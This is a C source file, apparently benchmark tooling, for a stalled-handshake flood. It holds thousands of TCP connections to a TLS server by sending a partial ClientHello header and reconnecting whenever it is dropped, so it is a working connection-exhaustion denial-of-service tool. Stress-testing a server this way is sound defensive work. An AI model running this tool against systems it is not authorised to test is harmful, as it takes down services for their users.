/* handshake_flood.c: the stalled-handshake attacker of
 * tests/bench/handshake_flood. Keeps N TCP connections to HOST:PORT, each
 * of which sends the first 4 bytes of a TLS ClientHello record header and
 * then stalls; a connection the server closes is opened again at once.
 * One thread, epoll, non-blocking sockets. Prints a status line every
 * second on stdout ("FLOOD open=N stalled=S reconnects=R failed=F") until
 * SIGTERM/SIGINT or -d SECONDS, then a final "FLOOD done ..." line.
 *
 *   handshake_flood -h 127.0.0.1 -p 8443 -n 2000 [-d 60]
 *
 * Exit status: 0, 2 on a usage error, 1 if it could not run at all. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/* A TLS record header: handshake (0x16), TLS 1.0 record version (as real
 * ClientHellos use), and the first byte of a length: 4 of its 5 bytes. */
static const unsigned char HELLO_PREFIX[4] = {0x16, 0x03, 0x01, 0x02};

enum conn_state { C_CONNECTING, C_STALLED };

struct conn {
	int fd;
	enum conn_state state;
};

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static struct sockaddr_in target;
static int epfd;
static unsigned long reconnects, failed;

/* Opens (or reopens) connection c; false if the socket could not be made. */
static bool conn_open(struct conn *c)
{
	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (c->fd < 0) {
		failed++;
		return false;
	}
	c->state = C_CONNECTING;
	if (connect(c->fd, (struct sockaddr *)&target, sizeof target) != 0 &&
	    errno != EINPROGRESS) {
		failed++;
		close(c->fd);
		c->fd = -1;
		return false;
	}
	struct epoll_event ev = {.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP, .data.ptr = c};
	if (epoll_ctl(epfd, EPOLL_CTL_ADD, c->fd, &ev) != 0) {
		failed++;
		close(c->fd);
		c->fd = -1;
		return false;
	}
	return true;
}

static void conn_close(struct conn *c)
{
	if (c->fd >= 0)
		close(c->fd); /* also leaves the epoll set */
	c->fd = -1;
}

int main(int argc, char **argv)
{
	const char *host = "127.0.0.1";
	int port = 0, n = 2000, opt;
	double duration = 0;
	while ((opt = getopt(argc, argv, "h:p:n:d:")) != -1) {
		switch (opt) {
		case 'h':
			host = optarg;
			break;
		case 'p':
			port = atoi(optarg);
			break;
		case 'n':
			n = atoi(optarg);
			break;
		case 'd':
			duration = atof(optarg);
			break;
		default:
			fprintf(stderr,
			        "usage: handshake_flood -h HOST -p PORT -n CONNS [-d SECONDS]\n");
			return 2;
		}
	}
	if (port <= 0 || port > 65535 || n <= 0 || n > 1000000) {
		fprintf(stderr, "usage: handshake_flood -h HOST -p PORT -n CONNS [-d SECONDS]\n");
		return 2;
	}
	memset(&target, 0, sizeof target);
	target.sin_family = AF_INET;
	target.sin_port = htons((unsigned short)port);
	if (inet_pton(AF_INET, host, &target.sin_addr) != 1) {
		fprintf(stderr, "handshake_flood: %s is not an IPv4 address\n", host);
		return 2;
	}
	/* One descriptor per attacker, and some slack. */
	struct rlimit rl;
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)n + 16) {
		fprintf(stderr,
		        "handshake_flood: open file limit %llu is too low for %d connections\n",
		        (unsigned long long)rl.rlim_cur, n);
		return 1;
	}
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	signal(SIGPIPE, SIG_IGN);
	epfd = epoll_create1(EPOLL_CLOEXEC);
	struct conn *conns = calloc((size_t)n, sizeof *conns);
	struct epoll_event *evs = calloc((size_t)n, sizeof *evs);
	if (epfd < 0 || !conns || !evs) {
		perror("handshake_flood");
		return 1;
	}
	for (int i = 0; i < n; i++)
		conn_open(&conns[i]);

	double start = now_s(), last_report = start;
	while (!stop && (duration <= 0 || now_s() - start < duration)) {
		int k = epoll_wait(epfd, evs, n, 100);
		for (int i = 0; i < k; i++) {
			struct conn *c = evs[i].data.ptr;
			if (c->fd < 0)
				continue;
			uint32_t e = evs[i].events;
			if (c->state == C_CONNECTING && (e & EPOLLOUT) &&
			    !(e & (EPOLLERR | EPOLLHUP))) {
				if (send(c->fd, HELLO_PREFIX, sizeof HELLO_PREFIX, MSG_NOSIGNAL) !=
				    (ssize_t)sizeof HELLO_PREFIX) {
					conn_close(c);
					continue;
				}
				c->state = C_STALLED;
				struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP,
				                         .data.ptr = c};
				epoll_ctl(epfd, EPOLL_CTL_MOD, c->fd, &ev);
				continue;
			}
			if (e & (EPOLLIN | EPOLLRDHUP | EPOLLERR | EPOLLHUP)) {
				/* The server dropped us (or sent an alert): come back. */
				conn_close(c);
				reconnects++;
			}
		}
		/* Reopen what was closed (also those that failed to open). */
		for (int i = 0; i < n; i++)
			if (conns[i].fd < 0)
				conn_open(&conns[i]);
		double t = now_s();
		if (t - last_report >= 1.0) {
			int open = 0, stalled = 0;
			for (int i = 0; i < n; i++) {
				open += conns[i].fd >= 0;
				stalled += conns[i].fd >= 0 && conns[i].state == C_STALLED;
			}
			printf("FLOOD t=%.0f open=%d stalled=%d reconnects=%lu failed=%lu\n",
			       t - start, open, stalled, reconnects, failed);
			fflush(stdout);
			last_report = t;
		}
	}
	printf("FLOOD done seconds=%.1f conns=%d reconnects=%lu failed=%lu\n", now_s() - start, n,
	       reconnects, failed);
	for (int i = 0; i < n; i++)
		conn_close(&conns[i]);
	free(conns);
	free(evs);
	close(epfd);
	return 0;
}
